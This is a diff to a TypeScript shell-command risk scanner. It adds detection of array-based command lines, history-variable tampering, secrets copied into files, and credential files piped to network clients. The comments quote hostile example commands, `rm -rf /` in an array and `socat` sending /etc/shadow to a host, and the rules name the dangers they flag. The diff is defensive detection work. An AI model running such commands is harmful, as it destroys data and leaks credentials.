@@ -6,7 +6,9 @@
 // and gets a token-level scan of its fragments, so a critical pattern is not lost.
 
 import { quote } from './findings.ts';
-import { isBlockDevice, sensitiveFile } from './paths.ts';
+import { isBlockDevice, normalizePath, sensitiveFile } from './paths.ts';
+import { secretFile } from './secret-files.ts';
+import { historyAssignment } from './shell-protection-rules.ts';
 import type { RiskAssessment } from './risk-class.ts';
 import { analyzeCommand } from './shell-commands.ts';
 import { codeRule, writeTarget } from './shell-rule-context.ts';
@@ -166,6 +168,13 @@ function emptySite(): CommandSite {
 function collectVariables(file: ShellNode, scan: ShellScan): void {
   const evaluator = new WordEvaluator(scan.vars, () => ({ fromDownload: false }));
   walkShell(file, (node) => {
+    if (node.type === 'Assign' && node.Name && node.Array && !node.Append) {
+      // `a=(rm -rf /)`: an array used as a command line (`"${a[@]}"`).
+      const items = (node.Array.Elems ?? []).map((elem: ShellNode) => (elem.Value ? evaluator.word(elem.Value) : undefined));
+      if (items.every((item: { dynamic: boolean } | undefined) => item !== undefined && !item.dynamic))
+        scan.vars.set(`${node.Name.Value}[@]`, items.map((item: { text: string }) => item.text).join(' '));
+      return false;
+    }
     if (node.type === 'Assign' && node.Name && node.Value && !node.Append) {
       const value = evaluator.word(node.Value);
       if (!value.dynamic) scan.vars.set(node.Name.Value, value.text);
@@ -232,6 +241,8 @@ class Walker {
           for (const assign of cmd.Assigns ?? []) {
             if (assign.Value) this.evaluator.word(assign.Value);
             const name: string = assign.Name?.Value ?? '';
+            if (name.startsWith('HIST') && assign.Value) historyAssignment(scan, `${name}=${this.evaluator.word(assign.Value).text}`);
+            else if (name.startsWith('HIST') && !assign.Value) historyAssignment(scan, `${name}=`);
             if (name === 'LD_PRELOAD' || name === 'LD_LIBRARY_PATH' || name === 'PROMPT_COMMAND') {
               scan.add('high', `shell: sets ${name}, which changes what later commands run`);
             }
@@ -372,6 +383,9 @@ class Walker {
           codeRule({ name: `text written to ${target}`, scan }, summary.output, false);
         }
         writeTarget({ scan }, target, `redirect ${summary.name || 'output'} >`, redirect.op === 55 || redirect.op === 65 ? '>>' : '>');
+        // What lands in the file is remembered: a secret copied there, or a script run next.
+        if (summary.readsSensitive !== undefined) scan.secretCopies.set(normalizePath(target), summary.readsSensitive.why);
+        if (summary.output !== undefined) scan.writtenFiles.set(normalizePath(target), summary.output);
         if (isBlockDevice(target)) scan.add('critical', `shell: writes raw data to device ${quote(target)}`);
       }
       if (READ_OPS.has(redirect.op) && summary.readsSensitive === undefined) {
@@ -382,6 +396,9 @@ class Walker {
           const sender = summaryNames(summary).find((name) => STDIN_SENDERS.has(name));
           if (sender !== undefined && summaryNames(summary).length > 1)
             scan.add('critical', `shell: sends ${why} ${quote(target)} over the network (loop reading it runs ${sender})`);
+          // `socat - TCP:host:80 < /etc/shadow`: the file is the sender's input.
+          else if (summary.netClient !== undefined && (why === 'credential file' || secretFile(target) !== undefined))
+            scan.add('critical', `shell: sends ${why} ${quote(target)} over the network (${summary.netClient} < file)`);
         }
       }
       if (redirect.heredoc !== undefined && summary.interpreterStdin === undefined && redirect.heredoc.length > 16) {
